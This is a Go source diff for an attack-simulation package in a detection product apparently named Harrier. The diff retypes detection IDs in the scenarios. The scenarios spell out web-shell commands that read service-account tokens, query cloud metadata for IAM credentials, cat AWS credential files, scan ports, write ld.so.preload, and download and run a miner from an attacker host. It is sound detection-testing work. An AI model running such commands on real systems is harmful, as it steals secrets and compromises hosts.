@@ -9,7 +9,7 @@
 // exists only inside those namespaces, and nothing harmful runs: the "miner"
 // prints a line and connects once to the attacker's fake pool.
 //
-// simulate may import api and analytics constants, never sensor, store or
+// simulate may import api, never analytics, sensor, store or
 // transport: it sees Harrier only through the backend API, as a user does.
 package simulate
 
@@ -18,7 +18,7 @@ import (
 	"slices"
 	"strings"
 
-	"github.com/harrier-sec/harrier/analytics"
+	"github.com/harrier-sec/harrier/api"
 )
 
 // Scenario is one attack story of DETECTIONS.md's simulation table.
@@ -28,13 +28,13 @@ type Scenario struct {
 	// Title is the table's name for it.
 	Title string
 	// Expected are the alerts the scenario must raise locally.
-	Expected []string
+	Expected []api.DetectionID
 	// Explained are alerts the same behaviour may also raise, legitimately:
 	// they are reported, not counted as unexpected.
-	Explained []string
+	Explained []api.DetectionID
 	// ClusterOnly are expected alerts that need a Kubernetes control plane
 	// (audit detections); local mode lists them as not checked.
-	ClusterOnly []string
+	ClusterOnly []api.DetectionID
 	// Steps are the commands injected through the victim's web shell.
 	Steps func(env stepEnv) []Step
 }
@@ -45,7 +45,7 @@ type Step struct {
 	Command string
 	// Raises are the detections this step is the behaviour of: their
 	// latency is measured from when the request was sent.
-	Raises []string
+	Raises []api.DetectionID
 }
 
 // stepEnv is what the steps need to know about the sandbox.
@@ -71,11 +71,11 @@ func Scenarios() []Scenario {
 	return []Scenario{
 		{
 			Name: "recon", Title: "reconnaissance",
-			Expected:    []string{"web-shell", "network-scan", "sa-token-access"},
-			ClusterOnly: []string{"sa-suspicious-op"},
+			Expected:    []api.DetectionID{api.DetectionWebShell, api.DetectionNetworkScan, api.DetectionSATokenAccess},
+			ClusterOnly: []api.DetectionID{api.DetectionSASuspiciousOp},
 			// The fake API server on 6443 is asked with the token just
 			// read: exactly the token → API sequence.
-			Explained: []string{"k8s-api-from-container"},
+			Explained: []api.DetectionID{api.DetectionK8sAPIFromContainer},
 			Steps: func(e stepEnv) []Step {
 				review := `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"default"}}`
 				url := "http://" + e.attacker + ":6443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
@@ -98,76 +98,76 @@ func Scenarios() []Scenario {
 					scan = fmt.Sprintf("for h in %s; do nc -z -w 1 $h 20-1024; done; echo scanned", strings.Join(e.scanHosts, " "))
 				}
 				return []Step{
-					{Command: "id; whoami; uname -a", Raises: []string{"web-shell"}},
-					{Command: "cat " + tokenPath, Raises: []string{"sa-token-access"}},
-					{Command: ask, Raises: []string{"k8s-api-from-container", "sa-suspicious-op"}},
-					{Command: scan, Raises: []string{"network-scan"}},
+					{Command: "id; whoami; uname -a", Raises: []api.DetectionID{api.DetectionWebShell}},
+					{Command: "cat " + tokenPath, Raises: []api.DetectionID{api.DetectionSATokenAccess}},
+					{Command: ask, Raises: []api.DetectionID{api.DetectionK8sAPIFromContainer, api.DetectionSASuspiciousOp}},
+					{Command: scan, Raises: []api.DetectionID{api.DetectionNetworkScan}},
 				}
 			},
 		},
 		{
 			Name: "lateral", Title: "lateral movement",
-			Expected: []string{"web-shell", "cloud-metadata"},
+			Expected: []api.DetectionID{api.DetectionWebShell, api.DetectionCloudMetadata},
 			Steps: func(e stepEnv) []Step {
 				get := "wget -q -O- "
 				if e.curl {
 					get = "curl -s "
 				}
 				return []Step{
-					{Command: "hostname; ip route 2>/dev/null || route -n", Raises: []string{"web-shell"}},
-					{Command: get + "http://169.254.169.254/latest/meta-data/iam/security-credentials/", Raises: []string{"cloud-metadata"}},
+					{Command: "hostname; ip route 2>/dev/null || route -n", Raises: []api.DetectionID{api.DetectionWebShell}},
+					{Command: get + "http://169.254.169.254/latest/meta-data/iam/security-credentials/", Raises: []api.DetectionID{api.DetectionCloudMetadata}},
 				}
 			},
 		},
 		{
 			Name: "secrets", Title: "secrets gathering",
-			Expected: []string{"web-shell", "sensitive-files", "secret-recon"},
+			Expected: []api.DetectionID{api.DetectionWebShell, api.DetectionSensitiveFiles, api.DetectionSecretRecon},
 			Steps: func(stepEnv) []Step {
 				return []Step{
-					{Command: "find / -xdev -path '*/.aws/credentials' 2>/dev/null", Raises: []string{"web-shell", "secret-recon"}},
-					{Command: "grep -rl AWS_SECRET_ACCESS_KEY /home /etc /www 2>/dev/null; env | grep -i -e secret -e key", Raises: []string{"secret-recon", "sensitive-files"}},
-					{Command: "cat $HOME/.aws/credentials /home/app/.aws/credentials 2>/dev/null", Raises: []string{"sensitive-files"}},
+					{Command: "find / -xdev -path '*/.aws/credentials' 2>/dev/null", Raises: []api.DetectionID{api.DetectionWebShell, api.DetectionSecretRecon}},
+					{Command: "grep -rl AWS_SECRET_ACCESS_KEY /home /etc /www 2>/dev/null; env | grep -i -e secret -e key", Raises: []api.DetectionID{api.DetectionSecretRecon, api.DetectionSensitiveFiles}},
+					{Command: "cat $HOME/.aws/credentials /home/app/.aws/credentials 2>/dev/null", Raises: []api.DetectionID{api.DetectionSensitiveFiles}},
 				}
 			},
 		},
 		{
 			Name: "mining", Title: "crypto mining",
-			Expected: []string{"web-shell", "cpu-optimization", "ld-preload", "miner-download", "drift-binary", "mining"},
+			Expected: []api.DetectionID{api.DetectionWebShell, api.DetectionCPUOptimization, api.DetectionLDPreload, api.DetectionMinerDownload, api.DetectionDriftBinary, api.DetectionMining},
 			// Downloading, chmod +x and running is download-exec; modprobe
 			// from a container is kernel-module.
-			Explained: []string{"download-exec", "kernel-module"},
+			Explained: []api.DetectionID{api.DetectionDownloadExec, api.DetectionKernelModule},
 			Steps: func(e stepEnv) []Step {
 				return []Step{
 					// All of these fail as the non-root web user: the
 					// attempts are what must alert.
 					// A path, not a bare name: busybox's shell would run its
 					// modprobe applet in-process, without an exec to see.
-					{Command: "/bin/modprobe msr allow_writes=on", Raises: []string{"web-shell", "cpu-optimization"}},
-					{Command: "echo 1280 > /proc/sys/vm/nr_hugepages", Raises: []string{"cpu-optimization"}},
-					{Command: "echo /tmp/.x/libhide.so > /etc/ld.so.preload", Raises: []string{"ld-preload"}},
+					{Command: "/bin/modprobe msr allow_writes=on", Raises: []api.DetectionID{api.DetectionWebShell, api.DetectionCPUOptimization}},
+					{Command: "echo 1280 > /proc/sys/vm/nr_hugepages", Raises: []api.DetectionID{api.DetectionCPUOptimization}},
+					{Command: "echo /tmp/.x/libhide.so > /etc/ld.so.preload", Raises: []api.DetectionID{api.DetectionLDPreload}},
 					{Command: fmt.Sprintf("cd /tmp && wget -q http://%s:8000/%s && chmod +x %s && ./%s --donate-level 1 -o stratum+tcp://%s:3333 -k",
 						e.attacker, e.miner, e.miner, e.miner, e.attacker),
-						Raises: []string{"miner-download", "download-exec", "drift-binary", "mining"}},
+						Raises: []api.DetectionID{api.DetectionMinerDownload, api.DetectionDownloadExec, api.DetectionDriftBinary, api.DetectionMining}},
 				}
 			},
 		},
 		{
 			Name: "webshell", Title: "web shell",
-			Expected: []string{"web-shell"},
+			Expected: []api.DetectionID{api.DetectionWebShell},
 			Steps: func(stepEnv) []Step {
-				return []Step{{Command: "id; ls -la /www /www/cgi-bin", Raises: []string{"web-shell"}}}
+				return []Step{{Command: "id; ls -la /www /www/cgi-bin", Raises: []api.DetectionID{api.DetectionWebShell}}}
 			},
 		},
 		{
 			Name: "threat-intel", Title: "threat-intel domain",
-			Expected: []string{"ioc-domain"},
+			Expected: []api.DetectionID{api.DetectionIOCDomain},
 			// The lookup is made through the web shell too.
-			Explained: []string{"web-shell"},
+			Explained: []api.DetectionID{api.DetectionWebShell},
 			Steps: func(stepEnv) []Step {
 				// wget resolves with the C library's resolver, which
 				// sends the query with sendmmsg/sendto (busybox nslookup
 				// uses write, which the sensor does not hook).
-				return []Step{{Command: "wget -q -O- http://" + analytics.IOCTestDomain + ":8000/", Raises: []string{"ioc-domain"}}}
+				return []Step{{Command: "wget -q -O- http://" + api.IOCTestDomain + ":8000/", Raises: []api.DetectionID{api.DetectionIOCDomain}}}
 			},
 		},
 	}
